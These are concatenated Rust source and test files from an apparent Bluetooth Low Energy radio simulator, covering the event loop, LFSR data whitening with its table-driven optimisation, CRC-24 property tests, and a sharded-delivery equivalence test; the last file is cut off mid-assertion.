    pub fn add_boxed_node(&mut self, config: NodeConfig, node: Box<dyn Node>) -> NodeId {
        let rng = self.inner.rng.fork();
        let id = NodeId(self.inner.nodes.len());
        let label = config.label.clone();
        self.inner.nodes.push(NodeState {
            config,
            rng,
            radio: RadioState::Idle,
            tx_span: SpanId::DISABLED,
            tx_starts: 0,
        });
        self.nodes.push(node);
        let now = self.inner.now();
        self.inner
            .emit(now, Some(id), || TelemetryEvent::NodeAdded { label });
        id
    }

    /// Bootstraps one node by invoking its
    /// [`crate::RadioListener::on_start`] hook with a live [`NodeCtx`].
    /// Start order is part of a scenario's deterministic schedule: call
    /// this for every node, in a fixed order, after all `add_node` calls.
    pub fn start(&mut self, node: NodeId) {
        let Some(n) = self.nodes.get_mut(node.0) else {
            invariant!(false, "node-id", "start of unknown NodeId({})", node.0);
            return;
        };
        let mut ctx = NodeCtx {
            node,
            sim: &mut self.inner,
        };
        n.on_start(&mut ctx);
    }

    /// Typed read access to an arena node. Returns `None` when the id is
    /// unknown or the node is not a `T`.
    pub fn node<T: std::any::Any>(&self, node: NodeId) -> Option<&T> {
        self.nodes.get(node.0)?.as_any().downcast_ref::<T>()
    }

    /// Typed mutable access to an arena node. Returns `None` when the id is
    /// unknown or the node is not a `T`.
    pub fn node_mut<T: std::any::Any>(&mut self, node: NodeId) -> Option<&mut T> {
        self.nodes.get_mut(node.0)?.as_any_mut().downcast_mut::<T>()
    }

    /// Runs a closure with typed mutable access to a node *and* a live
    /// [`NodeCtx`] for it — the arena replacement for the old pattern of
    /// borrowing an `Rc<RefCell<…>>` inside [`World::with_ctx`]. Returns
    /// `None` when the id is unknown or the node is not a `T`.
    pub fn with_node_ctx<T: std::any::Any, R>(
        &mut self,
        node: NodeId,
        f: impl FnOnce(&mut T, &mut NodeCtx<'_>) -> R,
    ) -> Option<R> {
        let n = self
            .nodes
            .get_mut(node.0)?
            .as_any_mut()
            .downcast_mut::<T>()?;
        let mut ctx = NodeCtx {
            node,
            sim: &mut self.inner,
        };
        Some(f(n, &mut ctx))
    }

    /// A node's position.
    pub fn node_position(&self, node: NodeId) -> Position {
        self.inner.node_state(node).config.position
    }

    /// Moves a node (used by the distance-sweep experiments). Stales the
    /// pair cache so every link mean is recomputed on next use.
    pub fn set_node_position(&mut self, node: NodeId, position: Position) {
        self.inner.node_state_mut(node).config.position = position;
        self.inner.pair_cache.invalidate();
    }

    /// Runs a closure with a [`NodeCtx`] for `node` — the way device state
    /// machines are bootstrapped (arming their first timer, opening RX).
    pub fn with_ctx<R>(&mut self, node: NodeId, f: impl FnOnce(&mut NodeCtx<'_>) -> R) -> R {
        let mut ctx = NodeCtx {
            node,
            sim: &mut self.inner,
        };
        f(&mut ctx)
    }

    /// Processes the next pending event. Returns `false` when idle.
    pub fn step(&mut self) -> bool {
        self.inner.gc();
        let Some((at, event)) = self.inner.queue.pop() else {
            return false;
        };
        match event {
            SimEvent::Timer { node, key } => {
                self.dispatch(node, RadioEvent::Timer { key, at });
            }
            SimEvent::TxEnd { node } => {
                if let Some(ev) = self.inner.finish_tx(node) {
                    self.dispatch(node, ev);
                }
            }
            SimEvent::RxStart { node, tx_id } => {
                if let Some(ev) = self.inner.handle_rx_start(node, tx_id) {
                    self.dispatch(node, ev);
                }
            }
            SimEvent::LateSync { node, tx_id } => {
                let pending = match &self.inner.node_state(node).radio {
                    RadioState::Rx {
                        lock: Some(lock),
                        channel,
                        ..
                    } if lock.tx_id == tx_id => Some((*channel, lock.arrival)),
                    _ => None,
                };
                if let Some((channel, arrival)) = pending {
                    let aa = match self.inner.txs.get(&tx_id) {
                        Some(tx) => tx.frame.access_address,
                        None => return true,
                    };
                    self.dispatch(
                        node,
                        RadioEvent::SyncDetected {
                            channel,
                            access_address: aa,
                            at: arrival,
                        },
                    );
                }
            }
            SimEvent::RxEnd { node, tx_id } => {
                if let Some(frame) = self.inner.handle_rx_end(node, tx_id) {
                    self.dispatch(node, RadioEvent::FrameReceived(frame));
                }
            }
            SimEvent::Fault { marker } => {
                if let Some(m) = self.inner.faults.markers().get(marker).cloned() {
                    self.inner.emit(at, m.node, || m.event);
                }
            }
        }
        true
    }

    /// Runs all events up to and including time `t`, then advances the
    /// clock to `t`.
    pub fn run_until(&mut self, t: Instant) {
        loop {
            match self.inner.queue.peek_time() {
                Some(next) if next <= t => {
                    self.step();
                }
                _ => break,
            }
        }
        self.inner.queue.advance_to(t);
    }

    /// Runs for a span of simulated time from *now*.
    pub fn run_for(&mut self, d: Duration) {
        let t = self.now() + d;
        self.run_until(t);
    }

    fn dispatch(&mut self, node: NodeId, event: RadioEvent) {
        // Disjoint-field borrow: the node comes out of `self.nodes`, the
        // context wraps `self.inner` — plain `&mut` on the hot path.
        let Some(listener) = self.nodes.get_mut(node.0) else {
            invariant!(false, "node-id", "dispatch to unknown NodeId({})", node.0);
            return;
        };
        let mut ctx = NodeCtx {
            node,
            sim: &mut self.inner,
        };
        listener.on_event(&mut ctx, event);
    }
}

impl std::fmt::Debug for World {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("World")
            .field("now", &self.now())
            .field("nodes", &self.inner.nodes.len())
            .field("pending_events", &self.inner.queue.len())
            .finish()
    }
}
