//! BLE data whitening.
//!
//! The Link Layer whitens the PDU and CRC with a 7-bit LFSR (polynomial
//! x⁷ + x⁴ + 1) seeded from the channel index, to avoid long runs of
//! identical bits on air. Whitening is an involution: applying it twice with
//! the same channel restores the original bytes.
//!
//! In the simulated medium frames are carried unwhitened (every receiver
//! knows the channel, so whitening is information-neutral); the algorithm is
//! provided because the Link Layer test suite and the attack tooling verify
//! frame encodings against it, exactly as the paper's nRF52840 firmware
//! relies on the hardware whitener.

use crate::channel::Channel;

/// Whitens (or de-whitens) `data` in place for the given channel.
///
/// # Example
///
/// ```
/// use ble_phy::{whiten_in_place, Channel};
/// let ch = Channel::new(37).unwrap();
/// let mut bytes = *b"InjectaBLE";
/// whiten_in_place(ch, &mut bytes);
/// assert_ne!(&bytes, b"InjectaBLE");
/// whiten_in_place(ch, &mut bytes); // involution
/// assert_eq!(&bytes, b"InjectaBLE");
/// ```
pub fn whiten_in_place(channel: Channel, data: &mut [u8]) {
    let mut lfsr = channel.whitening_init();
    for byte in data {
        let mut b = *byte;
        for bit in 0..8 {
            if lfsr & 1 != 0 {
                b ^= 1 << bit;
                lfsr ^= 0x88;
            }
            lfsr >>= 1;
        }
        *byte = b;
    }
}

/// Returns a whitened copy of `data` for the given channel.
pub fn whitened(channel: Channel, data: &[u8]) -> Vec<u8> {
    let mut out = data.to_vec();
    whiten_in_place(channel, &mut out);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ch(i: u8) -> Channel {
        Channel::new(i).unwrap()
    }

    #[test]
    fn whitening_is_an_involution_on_every_channel() {
        let original: Vec<u8> = (0..=255u8).collect();
        for i in 0..40 {
            let once = whitened(ch(i), &original);
            let twice = whitened(ch(i), &once);
            assert_eq!(twice, original, "channel {i}");
        }
    }

    #[test]
    fn keystream_differs_between_channels() {
        let zeros = vec![0u8; 16];
        let a = whitened(ch(0), &zeros);
        let b = whitened(ch(1), &zeros);
        assert_ne!(a, b);
    }

    #[test]
    fn keystream_is_nonzero() {
        let zeros = vec![0u8; 16];
        for i in 0..40 {
            let ks = whitened(ch(i), &zeros);
            assert!(ks.iter().any(|&b| b != 0), "channel {i} keystream all zero");
        }
    }

    #[test]
    fn keystream_period_is_127_bits() {
        // A maximal-length 7-bit LFSR repeats after 127 bits.
        let zeros = vec![0u8; 254 / 8 + 2];
        let ks = whitened(ch(5), &zeros);
        let bit = |n: usize| (ks[n / 8] >> (n % 8)) & 1;
        for n in 0..120 {
            assert_eq!(bit(n), bit(n + 127), "bit {n}");
        }
        // ... and not after any smaller power-of-two-ish shift.
        let mut all_equal = true;
        for n in 0..64 {
            if bit(n) != bit(n + 63) {
                all_equal = false;
                break;
            }
        }
        assert!(!all_equal, "period must not be 63");
    }

    #[test]
    fn whitening_is_xor_additive() {
        // whiten(a) XOR whiten(b) == a XOR b (keystream cancels).
        let a: Vec<u8> = (10..30).collect();
        let b: Vec<u8> = (100..120).collect();
        let wa = whitened(ch(9), &a);
        let wb = whitened(ch(9), &b);
        for i in 0..a.len() {
            assert_eq!(wa[i] ^ wb[i], a[i] ^ b[i]);
        }
    }

    #[test]
    fn empty_slice_is_fine() {
        let mut empty: [u8; 0] = [];
        whiten_in_place(ch(0), &mut empty);
    }
}
