//! BLE data whitening.
//!
//! The Link Layer whitens the PDU and CRC with a 7-bit LFSR (polynomial
//! x⁷ + x⁴ + 1) seeded from the channel index, to avoid long runs of
//! identical bits on air. Whitening is an involution: applying it twice with
//! the same channel restores the original bytes.
//!
//! In the simulated medium frames are carried unwhitened (every receiver
//! knows the channel, so whitening is information-neutral); the algorithm is
//! provided because the Link Layer test suite and the attack tooling verify
//! frame encodings against it, exactly as the paper's nRF52840 firmware
//! relies on the hardware whitener.

use crate::channel::Channel;

/// Keystream byte period. The LFSR has a 127-*bit* period, and
/// 127 bytes = 1016 bits ≡ 0 (mod 127), so the keystream repeats exactly
/// every 127 *bytes* — the smallest byte-aligned period.
const KEYSTREAM_PERIOD: usize = 127;

/// Per-channel whitening keystream bytes, one full byte-period each, built
/// at compile time from the same LFSR step the bitwise reference uses.
/// `data[i] ^= WHITEN_KEYSTREAM[channel][i % 127]` whitens any length with
/// two lookups per byte and no per-bit work.
const WHITEN_KEYSTREAM: [[u8; KEYSTREAM_PERIOD]; 40] = build_keystreams();

const fn build_keystreams() -> [[u8; KEYSTREAM_PERIOD]; 40] {
    let mut out = [[0u8; KEYSTREAM_PERIOD]; 40];
    let mut ch = 0u8;
    while ch < 40 {
        // Same seed as `Channel::whitening_init`: bit 6 set, channel index
        // in bits 5..0 (channel indices fit in 6 bits).
        let mut lfsr = 0x40 | ch;
        let mut i = 0usize;
        while i < KEYSTREAM_PERIOD {
            let mut ks = 0u8;
            let mut bit = 0;
            while bit < 8 {
                if lfsr & 1 != 0 {
                    ks |= 1 << bit;
                    lfsr ^= 0x88;
                }
                lfsr >>= 1;
                bit += 1;
            }
            // xtask-allow: R2 — u8 channel index widens on every platform
            out[ch as usize % 40][i % KEYSTREAM_PERIOD] = ks;
            i += 1;
        }
        ch += 1;
    }
    out
}

/// Whitens (or de-whitens) `data` in place for the given channel.
///
/// Table-driven (one keystream-byte XOR per data byte);
/// [`whiten_in_place_bitwise`] is the retired bit-at-a-time implementation,
/// kept as the equivalence-test reference.
///
/// # Example
///
/// ```
/// use ble_phy::{whiten_in_place, Channel};
/// let ch = Channel::new(37).unwrap();
/// let mut bytes = *b"InjectaBLE";
/// whiten_in_place(ch, &mut bytes);
/// assert_ne!(&bytes, b"InjectaBLE");
/// whiten_in_place(ch, &mut bytes); // involution
/// assert_eq!(&bytes, b"InjectaBLE");
/// ```
pub fn whiten_in_place(channel: Channel, data: &mut [u8]) {
    let ks = &WHITEN_KEYSTREAM[usize::from(channel.index()) % 40];
    for (i, byte) in data.iter_mut().enumerate() {
        *byte ^= ks[i % KEYSTREAM_PERIOD];
    }
}

/// Bit-at-a-time whitening (the original implementation), retained as the
/// reference the table-driven [`whiten_in_place`] is property-tested
/// against.
pub fn whiten_in_place_bitwise(channel: Channel, data: &mut [u8]) {
    let mut lfsr = channel.whitening_init();
    for byte in data {
        let mut b = *byte;
        for bit in 0..8 {
            if lfsr & 1 != 0 {
                b ^= 1 << bit;
                lfsr ^= 0x88;
            }
            lfsr >>= 1;
        }
        *byte = b;
    }
}

/// Returns a whitened copy of `data` for the given channel.
pub fn whitened(channel: Channel, data: &[u8]) -> Vec<u8> {
    let mut out = data.to_vec();
    whiten_in_place(channel, &mut out);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ch(i: u8) -> Channel {
        Channel::new(i).unwrap()
    }

    #[test]
    fn table_driven_matches_bitwise_reference() {
        // Lengths straddling the 127-byte keystream period, every channel.
        let original: Vec<u8> = (0..=255u8).cycle().take(300).collect();
        for i in 0..40 {
            for len in [0, 1, 2, 126, 127, 128, 254, 255, 300] {
                let mut table = original[..len].to_vec();
                let mut bitwise = original[..len].to_vec();
                whiten_in_place(ch(i), &mut table);
                whiten_in_place_bitwise(ch(i), &mut bitwise);
                assert_eq!(table, bitwise, "channel {i} len {len}");
            }
        }
    }

    #[test]
    fn whitening_is_an_involution_on_every_channel() {
        let original: Vec<u8> = (0..=255u8).collect();
        for i in 0..40 {
            let once = whitened(ch(i), &original);
            let twice = whitened(ch(i), &once);
            assert_eq!(twice, original, "channel {i}");
        }
    }

    #[test]
    fn keystream_differs_between_channels() {
        let zeros = vec![0u8; 16];
        let a = whitened(ch(0), &zeros);
        let b = whitened(ch(1), &zeros);
        assert_ne!(a, b);
    }

    #[test]
    fn keystream_is_nonzero() {
        let zeros = vec![0u8; 16];
        for i in 0..40 {
            let ks = whitened(ch(i), &zeros);
            assert!(ks.iter().any(|&b| b != 0), "channel {i} keystream all zero");
        }
    }

    #[test]
    fn keystream_period_is_127_bits() {
        // A maximal-length 7-bit LFSR repeats after 127 bits.
        let zeros = vec![0u8; 254 / 8 + 2];
        let ks = whitened(ch(5), &zeros);
        let bit = |n: usize| (ks[n / 8] >> (n % 8)) & 1;
        for n in 0..120 {
            assert_eq!(bit(n), bit(n + 127), "bit {n}");
        }
        // ... and not after any smaller power-of-two-ish shift.
        let mut all_equal = true;
        for n in 0..64 {
            if bit(n) != bit(n + 63) {
                all_equal = false;
                break;
            }
        }
        assert!(!all_equal, "period must not be 63");
    }

    #[test]
    fn whitening_is_xor_additive() {
        // whiten(a) XOR whiten(b) == a XOR b (keystream cancels).
        let a: Vec<u8> = (10..30).collect();
        let b: Vec<u8> = (100..120).collect();
        let wa = whitened(ch(9), &a);
        let wb = whitened(ch(9), &b);
        for i in 0..a.len() {
            assert_eq!(wa[i] ^ wb[i], a[i] ^ b[i]);
        }
    }

    #[test]
    fn empty_slice_is_fine() {
        let mut empty: [u8; 0] = [];
        whiten_in_place(ch(0), &mut empty);
    }
}
