//! Property tests for the PHY bit-manipulation layers.
//!
//! These run in debug mode, so every `ble_invariants` macro on these paths
//! is armed: a property that completes without panicking also certifies
//! that no protocol invariant fired for any generated input.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code may panic freely

use ble_phy::{
    crc24, crc24_bitwise, crc24_bytes, whiten_in_place, whiten_in_place_bitwise, whitened,
    AccessAddress, AccessFilter, Channel, Environment, NodeConfig, NodeCtx, Position, RadioEvent,
    RadioListener, RawFrame, ReceivedFrame, World, PDU_MAX_LEN,
};
use proptest::collection::vec;
use proptest::prelude::*;
use simkit::{Duration, SimRng};

/// Collects every frame delivered to the node.
#[derive(Default)]
struct Catcher {
    frames: Vec<ReceivedFrame>,
}

impl RadioListener for Catcher {
    fn on_event(&mut self, _ctx: &mut NodeCtx<'_>, event: RadioEvent) {
        if let RadioEvent::FrameReceived(f) = event {
            self.frames.push(f);
        }
    }
}

/// Any of the 40 BLE channels.
fn any_channel() -> impl Strategy<Value = Channel> {
    (0u8..40).prop_map(|i| Channel::new(i).expect("index in 0..40"))
}

proptest! {
    #[test]
    fn whitening_is_an_involution(
        channel in any_channel(),
        data in vec(any::<u8>(), 0..64),
    ) {
        let mut twice = data.clone();
        whiten_in_place(channel, &mut twice);
        if !data.is_empty() {
            prop_assert_ne!(&twice, &data, "whitening must scramble non-empty data");
        }
        whiten_in_place(channel, &mut twice);
        prop_assert_eq!(twice, data);
    }

    #[test]
    fn whitened_matches_in_place(
        channel in any_channel(),
        data in vec(any::<u8>(), 0..64),
    ) {
        let mut in_place = data.clone();
        whiten_in_place(channel, &mut in_place);
        prop_assert_eq!(whitened(channel, &data), in_place);
    }

    #[test]
    fn whitening_differs_between_channels(
        data in vec(any::<u8>(), 4..32),
    ) {
        // Distinct channels seed the LFSR differently, so the streams must
        // differ somewhere in the first bytes for at least one pair.
        let a = whitened(Channel::new(0).expect("valid"), &data);
        let b = whitened(Channel::new(37).expect("valid"), &data);
        prop_assert_ne!(a, b);
    }

    #[test]
    fn crc_bytes_roundtrip_to_value(
        init in 0u32..0x100_0000,
        data in vec(any::<u8>(), 0..64),
    ) {
        let value = crc24(init, &data);
        prop_assert!(value <= 0xFF_FFFF, "CRC-24 must fit 24 bits");
        let bytes = crc24_bytes(init, &data);
        let reassembled =
            u32::from(bytes[0]) | u32::from(bytes[1]) << 8 | u32::from(bytes[2]) << 16;
        prop_assert_eq!(reassembled, value);
    }

    #[test]
    fn crc_detects_any_single_bit_flip(
        init in 0u32..0x100_0000,
        data in vec(any::<u8>(), 1..32),
        flip in any::<u16>(),
    ) {
        let bit = usize::from(flip) % (data.len() * 8);
        let mut corrupted = data.clone();
        corrupted[bit / 8] ^= 1 << (bit % 8);
        prop_assert_ne!(crc24(init, &corrupted), crc24(init, &data));
    }

    #[test]
    fn table_crc_matches_bitwise(
        init in 0u32..0x100_0000,
        data in vec(any::<u8>(), 0..PDU_MAX_LEN + 1),
    ) {
        // The byte-wise lookup table replaced the bit-at-a-time loop on the
        // hot path; the retired implementation is retained as the oracle.
        prop_assert_eq!(crc24(init, &data), crc24_bitwise(init, &data));
    }

    #[test]
    fn table_whitening_matches_bitwise(
        channel in any_channel(),
        data in vec(any::<u8>(), 0..PDU_MAX_LEN + 1),
    ) {
        let mut table = data.clone();
        whiten_in_place(channel, &mut table);
        let mut bitwise = data;
        whiten_in_place_bitwise(channel, &mut bitwise);
        prop_assert_eq!(table, bitwise);
    }

    #[test]
    fn pdu_roundtrips_through_the_medium(
        payload in vec(any::<u8>(), 1..PDU_MAX_LEN + 1),
        channel in any_channel(),
        seed in any::<u64>(),
    ) {
        // Tx → medium → Rx with no interferer: the inline PDU buffer must
        // come out of the pipeline bit-exact and CRC-clean.
        let aa = AccessAddress::new(0x50C2_33A1);
        let mut sim = World::new(Environment::ideal(), SimRng::seed_from(seed));
        let tx = sim.add_node(
            NodeConfig::new("tx", Position::new(1.0, 0.0)),
            Catcher::default(),
        );
        let rx = sim.add_node(NodeConfig::new("rx", Position::ORIGIN), Catcher::default());
        sim.with_ctx(rx, |ctx| ctx.start_rx(channel, AccessFilter::One(aa), 0xABCDEF));
        let frame = RawFrame::new(aa, payload.as_slice(), 0xABCDEF);
        sim.with_ctx(tx, |ctx| ctx.transmit(channel, frame));
        sim.run_for(Duration::from_millis(5));
        let frames = &sim.node::<Catcher>(rx).expect("rx node").frames;
        prop_assert_eq!(frames.len(), 1, "exactly one delivery");
        prop_assert_eq!(&frames[0].pdu[..], payload.as_slice());
        prop_assert!(frames[0].crc_ok);
        prop_assert_eq!(frames[0].access_address, aa);
        prop_assert_eq!(frames[0].channel, channel);
    }

    #[test]
    fn crc_is_linear_over_gf2(
        init in 0u32..0x100_0000,
        pair in vec((any::<u8>(), any::<u8>()), 1..32),
    ) {
        let a: Vec<u8> = pair.iter().map(|&(x, _)| x).collect();
        let b: Vec<u8> = pair.iter().map(|&(_, y)| y).collect();
        let x: Vec<u8> = pair.iter().map(|&(p, q)| p ^ q).collect();
        let z = vec![0u8; pair.len()];
        prop_assert_eq!(
            crc24(init, &a) ^ crc24(init, &b) ^ crc24(init, &z),
            crc24(init, &x)
        );
    }
}
