//! Property tests for the PHY bit-manipulation layers.
//!
//! These run in debug mode, so every `ble_invariants` macro on these paths
//! is armed: a property that completes without panicking also certifies
//! that no protocol invariant fired for any generated input.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code may panic freely

use ble_phy::{crc24, crc24_bytes, whiten_in_place, whitened, Channel};
use proptest::collection::vec;
use proptest::prelude::*;

/// Any of the 40 BLE channels.
fn any_channel() -> impl Strategy<Value = Channel> {
    (0u8..40).prop_map(|i| Channel::new(i).expect("index in 0..40"))
}

proptest! {
    #[test]
    fn whitening_is_an_involution(
        channel in any_channel(),
        data in vec(any::<u8>(), 0..64),
    ) {
        let mut twice = data.clone();
        whiten_in_place(channel, &mut twice);
        if !data.is_empty() {
            prop_assert_ne!(&twice, &data, "whitening must scramble non-empty data");
        }
        whiten_in_place(channel, &mut twice);
        prop_assert_eq!(twice, data);
    }

    #[test]
    fn whitened_matches_in_place(
        channel in any_channel(),
        data in vec(any::<u8>(), 0..64),
    ) {
        let mut in_place = data.clone();
        whiten_in_place(channel, &mut in_place);
        prop_assert_eq!(whitened(channel, &data), in_place);
    }

    #[test]
    fn whitening_differs_between_channels(
        data in vec(any::<u8>(), 4..32),
    ) {
        // Distinct channels seed the LFSR differently, so the streams must
        // differ somewhere in the first bytes for at least one pair.
        let a = whitened(Channel::new(0).expect("valid"), &data);
        let b = whitened(Channel::new(37).expect("valid"), &data);
        prop_assert_ne!(a, b);
    }

    #[test]
    fn crc_bytes_roundtrip_to_value(
        init in 0u32..0x100_0000,
        data in vec(any::<u8>(), 0..64),
    ) {
        let value = crc24(init, &data);
        prop_assert!(value <= 0xFF_FFFF, "CRC-24 must fit 24 bits");
        let bytes = crc24_bytes(init, &data);
        let reassembled =
            u32::from(bytes[0]) | u32::from(bytes[1]) << 8 | u32::from(bytes[2]) << 16;
        prop_assert_eq!(reassembled, value);
    }

    #[test]
    fn crc_detects_any_single_bit_flip(
        init in 0u32..0x100_0000,
        data in vec(any::<u8>(), 1..32),
        flip in any::<u16>(),
    ) {
        let bit = usize::from(flip) % (data.len() * 8);
        let mut corrupted = data.clone();
        corrupted[bit / 8] ^= 1 << (bit % 8);
        prop_assert_ne!(crc24(init, &corrupted), crc24(init, &data));
    }

    #[test]
    fn crc_is_linear_over_gf2(
        init in 0u32..0x100_0000,
        pair in vec((any::<u8>(), any::<u8>()), 1..32),
    ) {
        let a: Vec<u8> = pair.iter().map(|&(x, _)| x).collect();
        let b: Vec<u8> = pair.iter().map(|&(_, y)| y).collect();
        let x: Vec<u8> = pair.iter().map(|&(p, q)| p ^ q).collect();
        let z = vec![0u8; pair.len()];
        prop_assert_eq!(
            crc24(init, &a) ^ crc24(init, &b) ^ crc24(init, &z),
            crc24(init, &x)
        );
    }
}
