//! Sharded vs full-broadcast delivery equivalence.
//!
//! [`DeliveryMode::FullBroadcast`] schedules an `RxStart` at every node for
//! every frame — the medium's original O(nodes) behaviour, retained as the
//! oracle. [`DeliveryMode::Sharded`] only schedules edges at current
//! listeners that clear the reachability cull, catching late openers with a
//! pending-arrival scan. The two must be **event-for-event identical**: the
//! sharded path may only skip edges the broadcast path would have discarded
//! without any state or RNG effect.
//!
//! The oracle check runs randomized dense worlds — nodes that transmit,
//! retune, and close their receivers at random times on random channels —
//! under both modes at fixed seeds and compares the full telemetry trace
//! plus every node's received-event log. Worlds use both the indoor
//! environment (cull never fires) and the dense hall at stadium scale (cull
//! active on far pairs), so equivalence is pinned on both sides of the
//! horizon.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code may panic freely

use ble_phy::{
    AccessAddress, AccessFilter, Channel, DeliveryMode, Environment, NodeConfig, NodeCtx, Position,
    RadioEvent, RadioListener, RawFrame, TimerKey, World,
};
use simkit::{Duration, SimRng};

const AA: AccessAddress = AccessAddress::new(0x50C2_33A1);
const CRC_INIT: u32 = 0xABCDEF;

/// A node that transmits, retunes, closes its receiver, or idles at random
/// (from its own forked RNG), recording every radio event it observes. The
/// action stream is a pure function of the event schedule and the node's
/// RNG, so any divergence between delivery modes cascades into the log.
struct Chatterbox {
    marker: u8,
    log: Vec<String>,
}

impl Chatterbox {
    fn new(marker: u8) -> Self {
        Chatterbox {
            marker,
            log: Vec::new(),
        }
    }
}

impl RadioListener for Chatterbox {
    fn on_event(&mut self, ctx: &mut NodeCtx<'_>, event: RadioEvent) {
        self.log.push(format!("{event:?}"));
        if let RadioEvent::Timer { .. } = event {
            let channel = Channel::data_wrapped(u8::try_from(ctx.rng().below(37)).unwrap());
            match ctx.rng().below(10) {
                0..=3 if !ctx.is_transmitting() => {
                    let frame = RawFrame::new(AA, vec![self.marker; 12], CRC_INIT);
                    ctx.transmit(channel, frame);
                }
                4..=7 if !ctx.is_transmitting() => {
                    ctx.start_rx(channel, AccessFilter::Any, CRC_INIT);
                }
                8 => ctx.stop_rx(),
                _ => {}
            }
            let delay = 50 + ctx.rng().below(300);
            ctx.set_timer_local(Duration::from_micros(delay), TimerKey(1));
        }
    }
}

/// Builds and runs one randomized world; returns the telemetry trace and
/// every node's event log, both rendered to strings.
fn run_world(
    seed: u64,
    nodes: usize,
    span_m: f64,
    env: Environment,
    mode: DeliveryMode,
) -> Vec<String> {
    let mut sim = World::new(env, SimRng::seed_from(seed));
    sim.set_delivery_mode(mode);
    sim.enable_trace();
    // Positions come from a dedicated RNG so both modes build the same
    // geometry without touching the world's stream.
    let mut layout = SimRng::seed_from(seed ^ 0x9E37_79B9);
    let mut ids = Vec::new();
    for i in 0..nodes {
        let x = layout.below(1_000) as f64 / 1_000.0 * span_m;
        let y = layout.below(1_000) as f64 / 1_000.0 * span_m;
        let marker = u8::try_from(i % 251).unwrap();
        ids.push(sim.add_node(
            NodeConfig::new(format!("n{i}"), Position::new(x, y)),
            Chatterbox::new(marker),
        ));
    }
    // Staggered first ticks so transmissions overlap but never start in
    // lockstep.
    for (i, id) in ids.iter().enumerate() {
        sim.with_ctx(*id, |ctx| {
            ctx.set_timer_local(Duration::from_micros(10 + 7 * i as u64), TimerKey(1));
        });
    }
    sim.run_for(Duration::from_millis(50));
    let mut out: Vec<String> = sim
        .trace()
        .records()
        .iter()
        .map(|r| format!("{r:?}"))
        .collect();
    for id in ids {
        let node = sim.node::<Chatterbox>(id).expect("chatterbox");
        out.push(format!("--- node {}", node.marker));
        out.extend(node.log.iter().cloned());
    }
    out
}

#[test]
fn sharded_delivery_matches_the_broadcast_oracle_indoors() {
    // Indoor scale: every pair is far inside the cull horizon, so this
    // pins pure scheduling equivalence (listener index + pending scan).
    for seed in [3u64, 41, 1234] {
        let broadcast = run_world(
            seed,
            16,
            30.0,
            Environment::indoor_default(),
            DeliveryMode::FullBroadcast,
        );
        let sharded = run_world(
            seed,
            16,
            30.0,
            Environment::indoor_default(),
            DeliveryMode::Sharded,
        );
        assert!(
            broadcast
                .iter()
                .any(|l| l.contains("RxEnd") || l.contains("rx-end")),
            "world must actually deliver frames (seed {seed})"
        );
        assert_eq!(
            broadcast, sharded,
            "sharded delivery diverged from the broadcast oracle (seed {seed})"
        );
    }
}

#[test]
fn sharded_delivery_matches_the_broadcast_oracle_with_active_culling() {
    // Stadium scale in the dense hall: the ~300 m cull horizon cuts
    // through the node cloud, so both reachable and culled pairs are
    // exercised — the cull must fire identically in both modes.
    for seed in [7u64, 99] {
        let broadcast = run_world(
            seed,
            24,
            800.0,
            Environment::dense_hall(),
            DeliveryMode::FullBroadcast,
        );
        let sharded = run_world(
            seed,
            24,
            800.0,
            Environment::dense_hall(),
            DeliveryMode::Sharded,
        );
        assert_eq!(
            broadcast, sharded,
            "culling diverged between delivery modes (seed {seed})"
        );
    }
}

/// A listener pinned to one channel, re-opening after every frame.
struct PinnedListener {
    channel: Channel,
    received: u64,
}

impl RadioListener for PinnedListener {
    fn on_start(&mut self, ctx: &mut NodeCtx<'_>) {
        ctx.start_rx(self.channel, AccessFilter::Any, CRC_INIT);
    }
    fn on_event(&mut self, ctx: &mut NodeCtx<'_>, event: RadioEvent) {
        if let RadioEvent::FrameReceived(f) = event {
            if f.crc_ok {
                self.received += 1;
            }
            ctx.start_rx(self.channel, AccessFilter::Any, CRC_INIT);
        }
    }
}

/// A beacon hopping through the data channels, one frame per tick.
struct Hopper {
    next: u8,
}

impl RadioListener for Hopper {
    fn on_start(&mut self, ctx: &mut NodeCtx<'_>) {
        ctx.set_timer_local(Duration::from_micros(400), TimerKey(1));
    }
    fn on_event(&mut self, ctx: &mut NodeCtx<'_>, event: RadioEvent) {
        if let RadioEvent::Timer { .. } = event {
            if !ctx.is_transmitting() {
                let frame = RawFrame::new(AA, vec![0xC3; 12], CRC_INIT);
                ctx.transmit(Channel::data_wrapped(self.next), frame);
                self.next = (self.next + 1) % 37;
            }
            ctx.set_timer_local(Duration::from_micros(400), TimerKey(1));
        }
    }
}

fn run_dense(mode: DeliveryMode, nodes: usize) -> ble_telemetry::DeliveryTotals {
    let mut sim = World::new(Environment::indoor_default(), SimRng::seed_from(11));
    sim.set_delivery_mode(mode);
    sim.enable_delivery_tracker(64);
    let mut ids = Vec::new();
    for i in 0..nodes {
        let x = (i % 12) as f64 * 2.0;
        let y = (i / 12) as f64 * 2.0;
        let cfg = NodeConfig::new(format!("l{i}"), Position::new(x, y));
        ids.push(sim.add_node(
            cfg,
            PinnedListener {
                channel: Channel::data_wrapped(u8::try_from(i % 37).unwrap()),
                received: 0,
            },
        ));
    }
    let hopper = sim.add_node(
        NodeConfig::new("hopper", Position::new(5.0, 5.0)),
        Hopper { next: 0 },
    );
    ids.push(hopper);
    for id in ids {
        sim.start(id);
    }
    sim.run_for(Duration::from_millis(100));
    sim.delivery_tracker().expect("tracker enabled").totals()
}

#[test]
fn sharded_mode_schedules_an_order_of_magnitude_fewer_rx_starts() {
    // 128 listeners pinned across the 37 data channels plus one hopping
    // beacon: broadcast schedules 128 edges per frame, sharded only the
    // 3–4 listeners sharing the frame's channel. The issue's acceptance
    // floor is 5×; the measured ratio here is ~30×.
    let broadcast = run_dense(DeliveryMode::FullBroadcast, 128);
    let sharded = run_dense(DeliveryMode::Sharded, 128);
    assert_eq!(
        broadcast.frames_delivered, sharded.frames_delivered,
        "both modes must deliver the same frames"
    );
    assert!(sharded.frames_delivered > 0, "world must deliver frames");
    assert!(
        broadcast.scheduled_rx_starts >= 5 * sharded.scheduled_rx_starts,
        "sharding must cut scheduled RxStarts at least 5x \
         (broadcast {} vs sharded {})",
        broadcast.scheduled_rx_starts,
